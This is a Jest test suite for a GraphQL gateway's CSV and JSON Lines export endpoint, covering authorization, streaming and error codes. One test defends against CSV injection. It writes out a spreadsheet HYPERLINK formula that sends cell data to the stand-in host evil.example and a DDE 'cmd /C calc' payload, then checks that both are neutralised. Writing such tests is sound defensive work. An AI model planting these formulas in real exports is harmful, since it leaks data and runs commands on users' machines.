// Exports for BI tools: any list as CSV or JSON Lines, equal to the JSON result, under the same
// authorization, streamed a page at a time.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { createServer } from 'node:net'
import { parseCsv } from '../gateway/routes/export-rows'
import { startMesh, type RunningMesh } from './support/mesh'

let mesh: RunningMesh
let base: string

/** A URL on 127.0.0.1 where nothing listens: what the gateway meets when a data product is down. */
async function deadUrl(): Promise<string> {
  const server = createServer()
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as { port: number }
  await new Promise<void>((resolve) => server.close(() => resolve()))
  return `http://127.0.0.1:${port}/graphql`
}

beforeAll(async () => {
  // 200 customers: about 23,500 transactions, 1,800 of them deposits of 1,000 or more: enough for every test.
  mesh = await startMesh({ customers: 200 })
  base = mesh.gatewayUrl.replace(/\/graphql$/, '')
})
afterAll(() => mesh?.stop())

const bearer = async (role: Parameters<RunningMesh['token']>[0]['role'], extra: Record<string, string> = {}) => ({
  authorization: `Bearer ${await mesh.token({ role, ...extra })}`,
})

const DEPOSITS = `query Deposits($first: Int, $after: String) {
  transactions(filter: { type: DEPOSIT, minAmount: "1000" }, first: $first, after: $after, orderBy: { field: AMOUNT, direction: DESC }) {
    edges { node { id amount type date description account { id type } customer { id } } }
    pageInfo { hasNextPage endCursor }
  }
}`

type ErrorBody = { errors: { message: string; extensions: { code: string } }[] }
const codeOf = async (response: Response) => ((await response.json()) as ErrorBody).errors[0]!.extensions.code
const jsonLines = async (response: Response) =>
  (await response.text())
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as unknown)

type Node = {
  id: string
  amount: string
  type: string
  date: string
  description: string
  account: { id: string; type: string }
  customer: { id: string }
}

/** The same list through ordinary JSON, page by page. */
async function jsonNodes(limit: number): Promise<Node[]> {
  const nodes: Node[] = []
  let after: string | null = null
  while (nodes.length < limit) {
    const page: {
      data?: { transactions: { edges: { node: Node }[]; pageInfo: { hasNextPage: boolean; endCursor: string } } } | null
    } = await mesh.query(DEPOSITS, { first: Math.min(1000, limit - nodes.length), after })
    nodes.push(...page.data!.transactions.edges.map((e) => e.node))
    if (!page.data!.transactions.pageInfo.hasNextPage) break
    after = page.data!.transactions.pageInfo.endCursor
  }
  return nodes
}

async function exportList(
  body: Record<string, unknown>,
  headers: Record<string, string>,
  path = '/export',
  gateway = base,
) {
  return fetch(`${gateway}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  })
}

describe('list exports', () => {
  test('CSV over several pages equals the JSON result, row by row and column by column', async () => {
    const response = await exportList(
      { query: DEPOSITS, variables: { first: 2500 }, format: 'csv' },
      await bearer('analyst'),
    )
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/)
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="transactions.csv"')
    const [header, ...rows] = parseCsv(await response.text())
    expect(header).toEqual(['id', 'amount', 'type', 'date', 'description', 'account.id', 'account.type', 'customer.id'])
    const expected = await jsonNodes(2500)
    expect(expected.length).toBeGreaterThan(1000) // more than one page
    expect(rows).toEqual(
      expected.map((n) => [n.id, n.amount, n.type, n.date, n.description, n.account.id, n.account.type, n.customer.id]),
    )
  })

  test("JSON Lines equals the JSON result's nodes; POST /graphql with an Accept header works too", async () => {
    const headers = { ...(await bearer('analyst')), accept: 'application/x-ndjson' }
    const response = await exportList({ query: DEPOSITS, variables: { first: 1200 } }, headers, '/graphql')
    expect(response.headers.get('content-type')).toMatch(/^application\/x-ndjson/)
    const lines = (await response.text())
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Node)
    expect(lines).toEqual(await jsonNodes(1200))

    const csv = await exportList(
      { query: '{ riskGradeDistribution { grade count averageProbabilityOfDefault } }' },
      { ...(await bearer('analyst')), accept: 'text/csv' },
      '/graphql',
    )
    const json = await mesh.query<{
      riskGradeDistribution: { grade: string; count: number; averageProbabilityOfDefault: string }[]
    }>('{ riskGradeDistribution { grade count averageProbabilityOfDefault } }')
    expect(parseCsv(await csv.text())).toEqual([
      ['grade', 'count', 'averageProbabilityOfDefault'],
      ...json.data!.riskGradeDistribution.map((r) => [r.grade, String(r.count), r.averageProbabilityOfDefault]),
    ])
  })

  test('a denied field is absent from the export, named in a header, and audited', async () => {
    const response = await exportList(
      { query: '{ customers(first: 50) { edges { node { id name ssn } } } }', format: 'csv' },
      await bearer('customer_service', { subject: 'export-ssn-probe' }),
    )
    expect(response.status).toBe(200)
    expect(response.headers.get('x-mesh-denied-fields')).toBe('ssn')
    const text = await response.text()
    const [header, ...rows] = parseCsv(text)
    expect(header).toEqual(['id', 'name'])
    expect(rows).toHaveLength(50)
    expect(text).not.toMatch(/\d{3}-\d{2}-\d{4}/)
    const audited = await mesh.query<{ accessDenials: { totalCount: number } }>(
      'query($subject: String) { accessDenials(filter: { subject: $subject, field: "Customer.ssn" }, first: 1) { totalCount } }',
      { subject: 'export-ssn-probe' },
    )
    expect(audited.errors).toBeUndefined()
    expect(audited.data!.accessDenials.totalCount).toBe(50)

    const wholeList = await exportList(
      { query: '{ transactions(first: 10) { edges { node { id } } } }', format: 'csv' },
      await bearer('marketing'),
    )
    expect(wholeList.status).toBe(403)
    expect(await codeOf(wholeList)).toBe('FORBIDDEN')
  })

  test('a list inside a row is one CSV column holding the JSON-encoded list; JSON Lines keeps it as it is', async () => {
    const query = '{ customers(first: 3) { edges { node { id accounts { id type balance } } } } }'
    const json = await mesh.query<{
      customers: { edges: { node: { id: string; accounts: { id: string; type: string; balance: string }[] } }[] }
    }>(query)
    const expected = json.data!.customers.edges.map((e) => e.node)
    expect(expected.some((n) => n.accounts.length > 1)).toBe(true)

    const csv = await exportList({ query, format: 'csv' }, await bearer('admin'))
    expect(parseCsv(await csv.text())).toEqual([
      ['id', 'accounts'],
      ...expected.map((n) => [n.id, JSON.stringify(n.accounts)]),
    ])
    const jsonl = await exportList({ query, format: 'jsonl' }, await bearer('admin'))
    expect(await jsonLines(jsonl)).toEqual(expected)
  })

  test('a field denied inside a list is removed from every item: in JSON Lines and inside the CSV cell', async () => {
    const query = '{ customers(first: 5) { edges { node { id riskAssessments { riskGrade creditScore } } } } }'
    const json = await mesh.query<{
      customers: { edges: { node: { id: string; riskAssessments: { riskGrade: string; creditScore: number }[] } }[] }
    }>(query)
    const expected = json.data!.customers.edges.map(({ node }) => ({
      id: node.id,
      riskAssessments: node.riskAssessments.map(({ riskGrade }) => ({ riskGrade })),
    }))
    expect(expected.some((n) => n.riskAssessments.length > 0)).toBe(true)

    const jsonl = await exportList({ query, format: 'jsonl' }, await bearer('analyst'))
    expect(jsonl.status).toBe(200)
    expect(jsonl.headers.get('x-mesh-denied-fields')).toBe('riskAssessments.creditScore')
    expect(await jsonLines(jsonl)).toEqual(expected)
    const csv = await exportList({ query, format: 'csv' }, await bearer('analyst'))
    expect(csv.headers.get('x-mesh-denied-fields')).toBe('riskAssessments.creditScore')
    expect(parseCsv(await csv.text())).toEqual([
      ['id', 'riskAssessments'],
      ...expected.map((n) => [n.id, JSON.stringify(n.riskAssessments)]),
    ])
  })

  test('a plain list that did not come is answered with the error that kept it: denied, or invalid', async () => {
    const denied = await exportList(
      { query: '{ riskGradeDistribution { grade count } }', format: 'csv' },
      await bearer('customer', { customerId: 'C-00001' }),
    )
    expect(denied.status).toBe(403)
    expect(await codeOf(denied)).toBe('FORBIDDEN')
    const invalid = await exportList(
      { query: '{ riskGradeDistribution { grade nope } }', format: 'csv' },
      await bearer('analyst'),
    )
    expect(invalid.status).toBe(400)
    expect(await codeOf(invalid)).toBe('GRAPHQL_VALIDATION_FAILED')
  })

  test('a data product down on the first page is answered as an error, not as a file with empty columns', async () => {
    // A second gateway over the same subgraphs, but with Risk where nothing answers (as when it is stopped):
    // the same as a mesh with Risk down, without starting seven more servers on seven more databases.
    const { url } = await mesh.startGateway({ subgraphUrls: { ...mesh.subgraphUrls, risk: await deadUrl() } })
    const response = await exportList(
      { query: '{ customers(first: 5) { edges { node { id creditScore } } } }', format: 'csv' },
      await bearer('admin'),
      '/export',
      url.replace(/\/graphql$/, ''),
    )
    expect(response.status).toBe(502)
    expect(response.headers.get('content-type')).toMatch(/^application\/json/)
    expect(await codeOf(response)).toBe('UPSTREAM_UNAVAILABLE')
  })

  test('POST /graphql exports only when CSV or JSON Lines is the best match of the Accept header', async () => {
    const body = { query: '{ riskGradeDistribution { grade count } }' }
    const json = await exportList(
      body,
      { ...(await bearer('analyst')), accept: 'application/json, text/csv;q=0.1' },
      '/graphql',
    )
    expect(json.headers.get('content-type')).toMatch(/^application\/json/)
    expect(
      ((await json.json()) as { data: { riskGradeDistribution: unknown[] } }).data.riskGradeDistribution.length,
    ).toBeGreaterThan(0)
    const csv = await exportList(
      body,
      { ...(await bearer('analyst')), accept: 'application/json;q=0.5, text/csv' },
      '/graphql',
    )
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/)
    expect(parseCsv(await csv.text())[0]).toEqual(['grade', 'count'])
  })

  test('a large export is streamed: while the client does not read, the gateway stops fetching pages', async () => {
    // What socket buffers hold while the client does not read (some 4-5 MB here) is counted in bytes, so the
    // file must be many times that. Wide rows (the date again in 60 more columns, ~1,600 bytes a row) make
    // 13,000 rows 20+ MB, for far less work than as many bytes of narrow rows; a gateway paging exports by 50
    // rows (and allowing the aliases) makes them well over 200 pages. Its connection is a fresh one, whose
    // buffers no earlier test grew.
    const PAGE_SIZE = 50
    const ROWS = 13_000
    const exporter = (await mesh.startGateway({ exportPageSize: PAGE_SIZE, limits: { maxAliases: 100 } })).url.replace(
      /\/graphql$/,
      '',
    )
    const wideColumns = Array.from({ length: 60 }, (_, i) => `date${i + 2}: date`).join(' ')
    const metrics = mesh.subgraphUrls.transactions.replace(/\/graphql$/, '/metrics')
    const operations = async () => {
      const text = await (await fetch(metrics)).text()
      return text
        .split('\n')
        .filter((l) => l.startsWith('graphql_operations_total{'))
        .reduce((n, l) => n + Number(l.split(' ').at(-1)), 0)
    }
    const summary = await mesh.query<{ transactionSummary: { count: number } }>('{ transactionSummary { count } }')
    const total = Math.min(ROWS, summary.data!.transactionSummary.count)
    const pages = Math.ceil(total / PAGE_SIZE)
    expect(pages).toBeGreaterThan(200)

    const before = await operations()
    const response = await exportList(
      {
        query: `{ transactions(first: ${ROWS}) { edges { node { id date amount type description ${wideColumns} account { id } } } } }`,
        format: 'csv',
      },
      await bearer('analyst'),
      '/export',
      exporter,
    )
    const reader = response.body!.getReader()
    const decoder = new TextDecoder()
    let bytes = 0
    let lines = 0
    let carriedCr = ''
    const take = (chunk: Uint8Array) => {
      bytes += chunk.length
      // A CRLF split across two chunks is counted once, in the chunk its LF arrives in.
      const text = carriedCr + decoder.decode(chunk, { stream: true })
      lines += (text.match(/\r\n/g) ?? []).length
      carriedCr = text.endsWith('\r') ? '\r' : ''
    }
    take((await reader.read()).value!)
    // The client stops reading; socket buffers fill, then the gateway must stop fetching pages.
    let fetched = (await operations()) - before
    for (let unchanged = 0; unchanged < 4;) {
      await new Promise((resolve) => setTimeout(resolve, 250))
      const now = (await operations()) - before
      unchanged = now === fetched ? unchanged + 1 : 0
      fetched = now
    }
    expect(fetched).toBeLessThan(pages / 3)

    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      take(value)
    }
    expect(bytes).toBeGreaterThan(15_000_000)
    expect(lines).toBe(total + 1) // the header and every row
    expect((await operations()) - before).toBeGreaterThanOrEqual(pages)
  })

  test('bad requests get stable codes', async () => {
    const headers = await bearer('analyst')
    const format = await exportList({ query: DEPOSITS, format: 'xlsx' }, headers)
    expect(format.status).toBe(400)
    expect(await codeOf(format)).toBe('BAD_USER_INPUT')
    const noList = await exportList({ query: '{ transactionSummary { count } }', format: 'csv' }, headers)
    expect(noList.status).toBe(400)
    expect(((await noList.json()) as ErrorBody).errors[0]!.message).toMatch(/no list to export/)
    const twoLists = await exportList(
      {
        query:
          '{ a: transactions(first: 1) { edges { node { id } } } b: customers(first: 1) { edges { node { id } } } }',
        format: 'csv',
      },
      headers,
    )
    expect(twoLists.status).toBe(400)
    const invalid = await exportList(
      { query: '{ transactions(first: 1) { edges { node { nope } } } }', format: 'csv' },
      headers,
    )
    expect(invalid.status).toBe(400)
    expect(await codeOf(invalid)).toBe('GRAPHQL_VALIDATION_FAILED')
    const forged = await exportList({ query: DEPOSITS, format: 'csv' }, { authorization: 'Bearer forged' })
    expect(forged.status).toBe(401)
    expect(await codeOf(forged)).toBe('UNAUTHENTICATED')
  })

  test('text a spreadsheet would run as a formula is neutralised in CSV (OWASP), numbers stay numbers, JSON Lines is unchanged', async () => {
    const teller = await bearer('customer_service', { subject: 'csv-injection-teller' })
    const [account] = await mesh.databases.transactions.query<{ id: string }>(
      `SELECT id FROM "Account" WHERE status = 'OPEN' ORDER BY id DESC LIMIT 1`,
    )
    // (A leading tab or carriage return, also neutralised, cannot be booked: statement lines are trimmed.)
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)']
    const harmless = ['-42.50', '+7', 'Rent, March', 'plain text']
    const booked = new Map<string, { description: string; formula: boolean }>()
    for (const description of [...formulas, ...harmless]) {
      const response = await fetch(mesh.gatewayUrl, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...teller },
        body: JSON.stringify({
          query: 'mutation($input: RecordTransactionInput!) { recordTransaction(input: $input) { id description } }',
          variables: {
            input: { accountId: account!.id, type: 'PAYMENT', amount: '1.25', description, channel: 'CARD' },
          },
        }),
      })
      const { data, errors } = (await response.json()) as {
        data?: { recordTransaction: { id: string; description: string } }
        errors?: unknown[]
      }
      expect(errors).toBeUndefined()
      booked.set(data!.recordTransaction.id, {
        description: data!.recordTransaction.description,
        formula: formulas.includes(description),
      })
    }
    const statement = {
      query:
        'query($account: ID) { transactions(filter: { accountId: $account }, first: 1000) { edges { node { id amount description } } } }',
      variables: { account: account!.id },
    }
    const csv = await exportList({ ...statement, format: 'csv' }, await bearer('analyst'))
    const text = await csv.text()
    const cells = new Map(
      parseCsv(text)
        .slice(1)
        .map(([id, amount, description]) => [id!, { amount, description }]),
    )
    for (const [id, { description, formula }] of booked)
      expect(cells.get(id)).toEqual({ amount: '1.25', description: formula ? `'${description}` : description })
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
    expect(text).toMatch(/,-42\.50\r\n/)

    const jsonl = await exportList({ ...statement, format: 'jsonl' }, await bearer('analyst'))
    const lines = (await jsonl.text())
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { id: string; description: string })
    for (const [id, { description }] of booked)
      expect(lines.find((line) => line.id === id)?.description).toBe(description)
  })
})
